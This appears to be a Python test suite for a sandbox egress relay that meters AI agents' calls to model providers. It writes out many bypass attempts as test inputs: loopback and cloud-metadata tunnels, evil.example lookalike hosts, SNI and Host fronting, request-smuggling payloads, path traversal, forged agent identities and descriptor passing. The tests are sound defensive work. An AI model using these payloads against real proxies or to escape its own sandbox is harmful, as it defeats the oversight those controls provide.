"""What the egress is asked for, and refuses: each time operators read of it."""

import array
import contextlib
import json
import os
import re
import select
import socket
import ssl

from .attempts import LIMIT_S, QUIET_S, WISHES, attempt, found, told

BODY = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 50, "messages": [{"role": "user", "content": "hi"}]})
MALFORMED, UNMETERED = "a malformed request: ", "not among the calls"
#: Of a provider's host, but not metered.
PATHS = (
    *("/sim/ledger", "/v1/organizations/api_keys", "/v1/files", "/v1/messages/batches", "/v1/messages/"),
    *("/v1/%6dessages/batches", "/v1/messages;x=1"),
)


def ask(name: str, content: bytes, words: str = "") -> None:
    """Say something to the relay. What came of it are the first lines of what is answered.

    Args:
        words: what stands in the audit.
    """
    if words:
        told[name] = words
    with attempt(name), socket.create_connection(("127.0.0.1", WISHES["relay"]), LIMIT_S) as one:
        one.sendall(content)
        answer = more = one.recv(65536)
        # Somebody may answer what was hidden in it.
        one.settimeout(QUIET_S)
        with contextlib.suppress(TimeoutError):
            while more:
                more = one.recv(65536)
                answer += more
        found[name] = " then ".join(re.findall("HTTP/1.[01] [0-9]+", answer.decode("latin-1")))


def request(line: str, *headers: str, body: str = BODY) -> bytes:
    more = ("Connection: close", f"Content-Length: {len(body)}")
    return "\r\n".join([line, "Host: egress", *headers, *more, "", body]).encode()


def framed(*headers: str, body: str) -> bytes:
    """A request of which only these headers tell how long it is."""
    return "\r\n".join(["POST /anthropic/v1/messages HTTP/1.1", "Host: egress", *headers, "", body]).encode()


def tunnels() -> None:
    port = WISHES["port"]
    hosts = ["127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]", "localhost"]
    for target in (
        *(f"{host}:{port}" for host in hosts),
        *("169.254.169.254:80", "example.org:443", "1.1.1.1:443", "api.anthropic.com:80", "api.openai.com:443"),
        *("api.anthropic.com.evil.example:443", "api.anthropic.com@evil.example:443", "%65vil.example:443"),
    ):
        ask(f"CONNECT {target}", f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode(), target[:30])
    metered = "api.anthropic.com:443"
    line = f"CONNECT {metered} HTTP/1.1\r\n"
    ask("CONNECT Host", f"{line}Host: evil.example:443\r\n\r\n".encode(), f"Host header does not name {metered}")
    ask("CONNECT body", f"{line}Host: {metered}\r\nContent-Length: 5\r\n\r\nhello".encode(), "a CONNECT has no body")
    ask("CONNECT to a path", request("CONNECT /anthropic/v1/messages HTTP/1.1"), "/anthropic/v1/messages")
    ask("CONNECT 1.0", b"CONNECT evil.example:443 HTTP/1.0\r\n\r\n", "evil.example:443")
    for name, shown, host, words in (
        ("SNI", "evil.example", "evil.example", "its TLS handshake names 'evil.example'"),
        ("Host", "api.anthropic.com", "evil.example", "a request in it names evil.example"),
    ):
        told[f"fronting by {name}"] = words
        with attempt(f"fronting by {name}"), socket.create_connection(("127.0.0.1", WISHES["relay"]), LIMIT_S) as one:
            one.sendall(f"{line}Host: {metered}\r\n\r\n".encode())
            one.recv(4096)
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            with context.wrap_socket(one, server_hostname=shown) as inner:
                inner.sendall(request("POST /v1/messages HTTP/1.1").replace(b"Host: egress", f"Host: {host}".encode()))
                found[f"fronting by {name}"] = inner.recv(4096).split(b"\r\n")[0].decode()


def requests() -> None:
    absolute = "only requests in origin form"
    ask("absolute", request(f"POST http://127.0.0.1:{WISHES['port']}/v1/messages HTTP/1.1"), absolute)
    ask("absolute, metered", request("POST http://api.anthropic.com/v1/messages HTTP/1.1"), absolute)
    unknown = "no provider's"
    hidden, climbs = "the path has empty segments, or hides", "the path climbs"
    for path, words in (
        *((path, f"POST {path}: {unknown}") for path in ("/", "/v1/messages", "/sim/ledger", "/control", "/status")),
        *((path, f"POST {path}: {unknown}") for path in ("/other0/anthropic/v1/messages", "/agents/other0")),
        *((f"/anthropic{path}", f"POST anthropic {path}: {UNMETERED}") for path in PATHS),
        ("/openai/v1/messages", f"POST openai /v1/messages: {UNMETERED}"),
        *(("/anthropic//v1/messages", hidden), ("/anthropic/v1/messages%2fbatches", hidden)),
        *(("/anthropic/v1/x/../messages", climbs), ("/anthropic/v1/models/../messages", climbs)),
    ):
        ask(f"POST {path}", request(f"POST {path} HTTP/1.1"), words)
    smuggling()


def smuggling() -> None:
    inner = "POST /anthropic/v1/messages/batches HTTP/1.1\r\nHost: egress\r\nContent-Length: 2\r\n\r\n{}"
    chunked, none = "Transfer-Encoding: chunked", f"0\r\n\r\n{inner}"
    ask("CL and TE", framed(chunked, f"Content-Length: {len(none)}", body=none), MALFORMED)
    ask("TE and CL", framed(f"Content-Length: {len(none)}", chunked, body=none), MALFORMED)
    ask("two CL", framed("Content-Length: 2", f"Content-Length: {2 + len(inner)}", body=f"{{}}{inner}"), MALFORMED)
    ask("CL with a sign", framed("Content-Length: +2", body=f"{{}}{inner}"), MALFORMED)
    ask("a folded CL", framed("Content-Length:\r\n 2", body=f"{{}}{inner}"), MALFORMED)
    for coding in ("xchunked", "chunked, identity", "chunked\r\nTransfer-Encoding: x"):
        ask(f"TE {coding!r}", framed(f"Transfer-Encoding: {coding}", body=none), MALFORMED)
    # In these the second request is one: the first, an empty one, ends where it says.
    for coding in ("identity, chunked", "\tchunked"):
        ask(f"TE {coding!r}", framed(f"Transfer-Encoding: {coding}", body=none), f"/v1/messages/batches: {UNMETERED}")
    for size in ("0x2", "+2", "2;x=\n", " 2", "-1", "2\n"):
        ask(f"chunk of {size!r}", framed(chunked, body=f"{size}\r\n{{}}\r\n{none}"), MALFORMED)
    plain = framed(f"Content-Length: {len(BODY)}", body=BODY)
    ask("bare LF", plain.replace(b"\r\n", b"\n"), MALFORMED)
    ask("name with a space", framed("Content-Length : 0", body=inner), MALFORMED)
    ask("name with a NUL", framed("Content-Length\0: 0", body=inner), MALFORMED)
    ask("GET with a body", request("GET /anthropic/v1/models HTTP/1.1", body=inner), "GET /v1/models with a body")


def borrowed() -> None:
    """Another agent's name wherever one might be looked for: it is answered, and it is this agent's."""
    forged = ("X-Muster-Agent: other0", "X-Agent: other0", "Forwarded: for=other0", "X-Forwarded-For: other0")
    keys = ("Authorization: Bearer other0", "x-api-key: other0", "Cookie: agent=other0", "X-Forwarded-Host: other0")
    ask("forged identity", request("POST /anthropic/v1/messages?agent=other0 HTTP/1.1", *forged, *keys))


def passed() -> None:
    """Descriptors given to whoever is at the other end of the sandbox's own sockets: nobody keeps them (unix(7))."""
    told[f"descriptor for {WISHES['egress']}"] = "GET /: no provider's"
    for place in (WISHES["egress"], WISHES["tools"]):
        with attempt(f"descriptor for {place}"), socket.socket(socket.AF_UNIX) as one:
            reading, writing = os.pipe()
            one.connect(place)
            ancillary = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [writing]))
            one.sendmsg([b"GET / HTTP/1.1\r\nHost: egress\r\nContent-Length: 0\r\n\r\n"], [ancillary])
            os.close(writing)
            gone, _, _ = select.select([reading], [], [], LIMIT_S)
            found[f"descriptor for {place}"] = "let go" if gone else "OPEN"
            os.close(reading)
